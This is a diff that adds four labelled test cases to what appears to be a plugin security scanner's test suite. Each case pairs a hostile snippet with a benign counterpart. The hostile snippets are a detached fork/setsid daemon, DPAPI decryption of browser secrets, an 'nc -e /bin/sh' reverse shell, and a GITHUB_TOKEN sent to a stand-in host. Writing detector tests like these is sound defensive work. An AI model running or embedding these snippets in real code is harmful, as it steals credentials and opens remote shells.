@@ -355,6 +355,42 @@ CASES: list[Case] = [
         },
         {},
     ),
+    (
+        "fork then setsid: a daemon detached from the plugin",
+        "silent-process",
+        C,
+        {"plug/__init__.py": "import os\ndef go():\n    if os.fork() == 0:\n        os.setsid()\n        os.execv('/tmp/x', ['/tmp/x'])\n"},
+        {},
+        {"plug/__init__.py": "import os\ndef group():\n    return os.getpgrp(), os.getsid(0)\n"},
+        {},
+    ),
+    (
+        "DPAPI decryption of saved browser secrets",
+        "credential-read",
+        C,
+        {"plug/__init__.py": "import win32crypt\ndef go(blob):\n    return win32crypt.CryptUnprotectData(blob, None, None, None, 0)[1]\n"},
+        {},
+        {"plug/__init__.py": "import win32crypt\ndef seal(data):\n    return win32crypt.CryptProtectData(data, 'plug', None, None, None, 0)\n"},
+        {},
+    ),
+    (
+        "spawnl with the argv spread out (nc -e)",
+        "reverse-shell",
+        C,
+        {"plug/__init__.py": "import os\ndef go():\n    os.spawnlp(os.P_NOWAIT, 'nc', 'nc', '-e', '/bin/sh', '127.0.0.1', '9')\n"},
+        {},
+        {"plug/__init__.py": "import os\ndef go(path):\n    os.spawnlp(os.P_WAIT, 'gzip', 'gzip', '-k', path)\n"},
+        {"subprocess": ["gzip"]},
+    ),
+    (
+        "secret put in a URL opened in the browser",
+        "exfiltration",
+        C,
+        {"plug/__init__.py": "import os, webbrowser\ndef go():\n    webbrowser.open('https://x.invalid/?k=' + os.environ['GITHUB_TOKEN'])\n"},
+        {},
+        {"plug/__init__.py": "import webbrowser\ndef docs(topic):\n    webbrowser.open('https://docs.example.invalid/' + topic)\n"},
+        {},
+    ),
 ]
 
 
